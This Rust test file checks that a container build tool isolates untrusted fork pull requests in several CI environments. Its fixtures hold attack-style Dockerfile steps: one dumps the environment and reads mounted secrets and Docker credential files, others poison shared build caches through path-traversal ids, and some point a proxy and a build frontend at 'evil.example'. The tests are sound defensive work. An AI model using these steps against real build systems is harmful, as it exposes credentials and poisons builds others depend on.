//! Pull requests of people whom nobody vouches for, against a real registry and on an engine that others share.

use std::os::unix::fs::PermissionsExt as _;

use crate::cli::ci_environments::{CIS, Event, History, Job, job};
use crate::engine::bridge::{Bridge, keys};
use crate::support::bed::setting;
use crate::support::engines::BedEngine;
use crate::support::shop::{Cache, Project, Shop};
use crate::support::world::Answer;

/// Values that must come out nowhere.
const SECRETS: [(&str, &str); 3] =
    [("TOKEN", "t0p-secret"), ("AWS_SECRET_ACCESS_KEY", "aws-s3cret"), ("CI_JOB_TOKEN", "j0b-token")];

const UNTRUSTED: (&str, &str) = ("CHINAMPA_TRUST", "untrusted");

fn build(shop: &Shop, variables: &[(&str, &str)]) -> Answer {
    let mut command = shop.world.command(["build", "--progress", "plain"]);
    command.envs(variables.iter().copied()).output().unwrap().into()
}

fn built(shop: &Shop, variables: &[(&str, &str)]) -> Answer {
    let answer = build(shop, variables);
    assert_eq!(answer.exit, 0, "{answer}");
    answer
}

/// What was asked of the registry about this shop that changes something.
fn writes(shop: &Shop) -> Vec<String> {
    let log = std::fs::read_to_string(setting("REGISTRY_1_LOG")).unwrap();
    let of_shop = log.lines().filter(|line| line.contains(&format!("/v2/{}", shop.prefix)));
    let writes = of_shop.filter(|line| ["POST", "PUT", "PATCH", "DELETE"].iter().any(|it| line.contains(it)));
    writes.map(str::to_owned).collect()
}

fn durations(shop: &Shop) -> String {
    std::fs::read_to_string(shop.world.file(".git/chinampa/durations.json")).unwrap()
}

/// The pull request of a fork, for the commit that the shop has checked out, in a CI's environment.
fn fork_variables(shop: &Shop, history: &History, ci: &str) -> Option<Vec<(String, String)>> {
    let Job { variables, files, .. } = job(history, ci, Event::ForkPullRequest)?;
    let head = shop.world.git(["rev-parse", "HEAD"]);
    let here = |text: &str| {
        ["T2", "merge"].iter().fold(text.to_owned(), |text, name| text.replace(history.id(name), &head))
    };
    let file = |name: &str| shop.world.file(&format!(".git/{name}")).display().to_string();
    for (name, content) in &files {
        let content =
            here(content).replace("=parameters.properties", &format!("={}", file("parameters.properties")));
        shop.world.write(&format!(".git/{name}"), content);
    }
    let value = |value: &str| value.strip_prefix("file:").map_or_else(|| here(value), file);
    Some(variables.iter().map(|(name, it)| ((*name).to_owned(), value(it))).collect())
}

// issue 12: S1, S4, S6
#[test]
fn a_hostile_pull_request_gets_nothing_and_leaves_nothing_in_every_ci() {
    let leak = "FROM chinampa/base:1\n\
        RUN --mount=type=secret,id=token --mount=type=secret,id=aws \
        env; cat /run/secrets/* 2>/dev/null; cat /root/.docker/config.json 2>/dev/null; echo built\n";
    let secrets = "secrets = { token = { env = \"TOKEN\" }, aws = { env = \"AWS_SECRET_ACCESS_KEY\" } }";
    let shop = Shop::new()
        .cache(Cache::oci())
        .projects(&[("lib", "FROM chinampa/base:1\nCOPY f /\n", ""), ("api", leak, secrets)]);
    let manifest = std::fs::read_to_string(shop.world.file("projects.toml")).unwrap();
    let more =
        "message_switches = [\"rebuild\"]\n\n[deploy]\nkind = \"oci\"\nhost = \"127.0.0.1:1\"\n\n[cache]";
    shop.world.write("projects.toml", manifest.replace("[cache]", more)).write("lib/f", "1");
    shop.world.commit();
    let lib = shop.world.run(["build", "lib", "-q"]);
    assert_eq!(lib.exit, 0, "{lib}");
    shop.world.write("api/terraform/main.tf", "").write("api/f", "1");
    shop.world.git(["add", "-A"]);
    shop.world.git(["commit", "-q", "-m", "[ci rebuild]"]);
    // It would run a program of the repository, with the environment of the job.
    let terraform = shop.world.file(".git/terraform");
    shop.world.write(".git/terraform", "#!/bin/sh\ntouch \"$0.ran\"\n");
    std::fs::set_permissions(&terraform, std::fs::Permissions::from_mode(0o755)).unwrap();
    let (history, writes_before, durations_before) = (History::new(), writes(&shop), durations(&shop));

    for ci in CIS {
        let Some(of_ci) = fork_variables(&shop, &history, ci) else { continue };
        let mut command = shop.world.command(["build", "--progress", "plain", "-vv"]);
        command.envs(of_ci).envs(SECRETS).env("CHINAMPA_TERRAFORM", &terraform);
        let answer: Answer = command.output().unwrap().into();

        assert_eq!(answer.exit, 0, "{ci}: {answer}");
        assert!(answer.stderr.contains("this run is not trusted"), "{ci}: {answer}");
        assert!(
            answer.stdout.contains("1 built, 1 reused"),
            "{ci}: what the message asks for counts: {answer}"
        );
        let password = setting("REGISTRY_1_PASSWORD");
        for secret in SECRETS.iter().map(|(_, value)| *value).chain([password.as_str()]) {
            assert!(!answer.to_string().contains(secret), "{ci} shows `{secret}`: {answer}");
        }
    }

    assert_eq!(writes(&shop), writes_before);
    assert!(!shop.world.file(".git/terraform.ran").exists());
    assert_eq!(durations(&shop), durations_before, "how long builds took is learned by trusted runs");
    let images = shop.engine_images();
    let of_api: Vec<_> = images.iter().filter(|image| image.starts_with("api:")).collect();
    assert!(of_api.iter().all(|image| image.starts_with("api:untrusted-")), "{images:?}");
}

#[test]
fn that_a_run_is_not_trusted_is_said_with_every_progress_but_to_nobody_who_wants_quiet() {
    let shop = Shop::new().projects(&[("api", "FROM chinampa/base:1\n", "")]);
    let said = |arguments: &[&str]| {
        let mut command = shop.world.command(["build"]);
        let answer: Answer = command.args(arguments).env(UNTRUSTED.0, UNTRUSTED.1).output().unwrap().into();
        assert_eq!(answer.exit, 0, "{answer}");
        answer.stderr.contains("this run is not trusted")
            && answer.stderr.contains("Images stay in the engine")
    };

    let progress = ["plain", "json", "none"].map(|kind| said(&["--progress", kind]));

    assert_eq!(progress, [true; 3]);
    assert!(!said(&["--progress", "json", "--quiet"]));
}

#[test]
fn commands_that_write_are_refused() {
    let shop = Shop::new().cache(Cache::oci()).projects(&[("api", "FROM chinampa/base:1\n", "")]);
    let manifest = std::fs::read_to_string(shop.world.file("projects.toml")).unwrap();
    let more = "\n[deploy]\nkind = \"oci\"\nhost = \"127.0.0.1:1\"\n[environments.dev]\nbranch = \"**\"\n";
    shop.world.write("projects.toml", manifest + more).commit();
    let commands: [&[&str]; 5] = [
        &["deploy", "-e", "dev"],
        &["deploy", "-e", "dev", "--dry-run"],
        &["taint", "api"],
        &["untaint", "api"],
        &["promote", "127.0.0.1:1/a:1", "127.0.0.1:1/b:1"],
    ];

    for words in commands {
        let mut command = shop.world.command([]);
        let answer: Answer = command.args(words).env(UNTRUSTED.0, UNTRUSTED.1).output().unwrap().into();
        assert_eq!(answer.exit, 4, "{words:?}: {answer}");
        assert!(answer.stderr.contains("this run is not trusted, so it may not"), "{words:?}: {answer}");
    }
    assert_eq!(writes(&shop), [""; 0]);
}

/// What a step leaves in the engine, and what a later build of a trusted run makes of it.
struct Attack {
    name: &'static str,
    untrusted: &'static str,
    trusted: &'static str,
    settings: &'static str,
}

const ATTACKS: [Attack; 4] = [
    Attack {
        name: "a cache mount",
        untrusted: "RUN --mount=type=cache,id=ID,target=/c echo poison > /c/f\n",
        trusted: "RUN --mount=type=cache,id=ID,target=/c test ! -e /c/f\n",
        settings: "",
    },
    Attack {
        name: "a cache mount whose id leaves its namespace",
        untrusted: "RUN --mount=type=cache,id=../ID,target=/c echo poison > /c/f\n\
            RUN --mount=type=cache,id=/../ID,target=/c echo poison > /c/f\n",
        trusted: "RUN --mount=type=cache,id=ID,target=/c test ! -e /c/f\n",
        settings: "build_args = { BUILDKIT_CACHE_MOUNT_NS = \"\" }",
    },
    Attack {
        name: "a step without its secret",
        untrusted: "RUN --mount=type=secret,id=token test -e /run/secrets/token && echo good > /o || echo ID > /o\n",
        trusted: "RUN --mount=type=secret,id=token test -e /run/secrets/token && echo good > /o || echo ID > /o\n\
            RUN grep -q good /o\n",
        settings: "secrets = { token = { env = \"TOKEN\" } }",
    },
    Attack {
        name: "a step behind a proxy",
        untrusted: "RUN echo ID${http_proxy} > /o\n",
        trusted: "RUN echo ID${http_proxy} > /o\nRUN ! grep -q evil /o\n",
        settings: "build_args = { http_proxy = \"http://evil.example\" }",
    },
];

/// Builds first the one, then the other, each in a shop of its own on the same engine.
fn after(attack: &Attack, first: &[(&str, &str)], id: &str) -> Answer {
    let dockerfile = |steps: &str| format!("FROM chinampa/base:1\n{}", steps.replace("ID", id));
    let shop = |steps: &str, settings: &'static str| {
        let project: Project = ("api", "FROM chinampa/base:1\n", settings);
        let shop = Shop::new().projects(&[project]);
        shop.world.write("api/Dockerfile", dockerfile(steps)).commit();
        shop
    };
    let attacker = shop(attack.untrusted, attack.settings);
    built(&attacker, first);
    // The proxy is the attacker's alone.
    let settings = if attack.settings.contains("evil") { "" } else { attack.settings };
    let victim = shop(attack.trusted, settings);
    build(&victim, &[("TOKEN", "x")])
}

#[test]
fn what_an_untrusted_run_leaves_in_the_engine_reaches_no_trusted_build() {
    for (number, attack) in ATTACKS.iter().enumerate() {
        let id = |kind: &str| format!("{kind}-{}-{number}", std::process::id());

        let answer = after(attack, &[UNTRUSTED], &id("apart"));

        assert_eq!(answer.exit, 0, "{}: {answer}", attack.name);
    }
    // The attacks are some: by a trusted run, the first and the last reach the other build.
    for number in [0, 3] {
        let control = after(&ATTACKS[number], &[], &format!("control-{}-{number}", std::process::id()));
        assert_eq!(control.exit, 4, "{}: {control}", ATTACKS[number].name);
    }
}

#[test]
fn the_images_of_an_untrusted_run_are_reused_by_nobody() {
    let shop = Shop::new().projects(&[("lib", "FROM chinampa/base:1\n", ""), ("api", "FROM lib\n", "")]);

    built(&shop, &[UNTRUSTED]);
    let again = built(&shop, &[UNTRUSTED]);
    let trusted = built(&shop, &[]);

    assert!(again.stdout.contains("2 built, 0 reused"), "{again}");
    assert!(trusted.stdout.contains("2 built, 0 reused"), "{trusted}");
}

/// Files that a pull request has sent are not taken for those of another run.
#[tokio::test(flavor = "multi_thread")]
async fn an_untrusted_run_shares_the_key_of_its_context_with_no_other_run() {
    let (bridge, sent) = Bridge::recording(BedEngine::Machine).await;
    let mut shop = Shop::new().projects(&[("api", "FROM chinampa/base:1\nCOPY . /\n", "")]);
    shop.world.set("DOCKER_HOST", &format!("tcp://127.0.0.1:{}", bridge.port));
    let keys_of = |variables: &[(&str, &str)]| {
        built(&shop, variables);
        keys(&sent.take())
    };

    let untrusted = [keys_of(&[UNTRUSTED]), keys_of(&[UNTRUSTED])].concat();
    let has_table = || shop.world.file(".git/chinampa/contexts/api/table").exists();
    assert!(!has_table());
    let trusted = keys_of(&[]);

    assert!(has_table());
    let all = [untrusted, trusted].concat();
    assert_eq!(all.len(), 3, "{all:?}");
    let different: std::collections::BTreeSet<_> = all.iter().collect();
    assert_eq!(different.len(), 3, "{all:?}");
}

#[test]
fn a_frontend_of_the_authors_choice_is_not_started() {
    let shop = Shop::new().projects(&[("api", "FROM chinampa/base:1\n", "")]);
    shop.world.write("api/Dockerfile", "# syntax=evil.example/frontend\nFROM chinampa/base:1\n").commit();

    let answer = build(&shop, &[UNTRUSTED]);

    assert_eq!(answer.exit, 2, "{answer}");
    assert!(
        answer.stderr.contains("`evil.example/frontend`, a program that an untrusted run doesn't start"),
        "{answer}"
    );
}

/// An engine's own store has one platform an image, so each platform is an image of its own there.
#[test]
fn every_platform_is_built_for_an_untrusted_run_with_parents_of_its_own() {
    let platforms = "platforms = [\"linux/amd64\", \"linux/arm64\"]";
    let shop = Shop::new().cache(Cache::oci()).projects(&[
        ("lib", "FROM scratch\nCOPY f /\n", platforms),
        ("api", "FROM lib\nCOPY g /\n", platforms),
    ]);
    shop.world.write("lib/f", "1").write("api/g", "1").commit();

    let built = built(&shop, &[UNTRUSTED]);

    assert!(built.stdout.contains("2 built, 0 reused"), "{built}");
    for name in ["lib", "api"] {
        for platform in ["amd64", "arm64"] {
            let is_there = |image: &&String| {
                image.starts_with(&format!("{name}:untrusted-"))
                    && image.ends_with(&format!("-linux-{platform}"))
            };
            assert_eq!(shop.engine_images().iter().filter(is_there).count(), 1, "{name} {platform}");
        }
    }
    assert_eq!(writes(&shop), [""; 0]);
}
